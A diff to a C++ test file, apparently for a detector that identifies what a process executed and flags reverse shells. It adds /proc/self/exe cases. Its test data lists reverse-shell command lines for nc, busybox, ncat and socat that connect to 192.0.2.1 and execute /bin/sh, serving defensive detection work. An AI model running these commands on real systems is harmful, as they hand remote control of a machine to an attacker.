@@ -53,6 +53,7 @@ TEST_CASE("What an execution ran") {
   CHECK(executed_file(ran("/lib/ld-musl-x86_64.so.1", {"ld", "/tmp/x"})) == "/tmp/x");
   CHECK(executed_file(ran("/bin/busybox", {"busybox", "sh", "/tmp/p.sh"})) == "/tmp/p.sh");
   CHECK(executed_file(ran("/bin/busybox", {"sh", "/tmp/p.sh"})) == "/tmp/p.sh");
+  CHECK(executed_file(ran("/proc/self/exe", {"sh", "/tmp/p.sh"})) == "/tmp/p.sh");
   CHECK(executed_file(ran("/bin/busybox", {"busybox", "ash"})) == "-");
   CHECK(executed_file(ran("/bin/busybox", {"busybox", "wget", "x"})) == "/bin/busybox");
   CHECK(executed_file(ran("/bin/busybox")) == "/bin/busybox");
@@ -79,6 +80,7 @@ TEST_CASE("Reverse shells by process and arguments") {
         by("/bin/nc", {"nc", "192.0.2.1", "4444", "-e", "/bin/sh"}),
         by("/bin/busybox", {"busybox", "nc", "192.0.2.1", "4444", "-e", "/bin/sh"}),
         by("/bin/busybox", {"nc", "192.0.2.1", "4444", "-e", "/bin/sh"}),
+        by("/proc/self/exe", {"nc", "192.0.2.1", "4444", "-e", "/bin/sh"}),
         by("/usr/bin/nc.traditional", {"nc", "-nve", "/bin/sh", "192.0.2.1", "1"}),
         by("/usr/bin/ncat", {"ncat", "--exec", "/bin/sh", "192.0.2.1", "1"}),
         by("/usr/bin/socat", {"socat", "tcp:192.0.2.1:1", "EXEC:/bin/sh,pty"}),
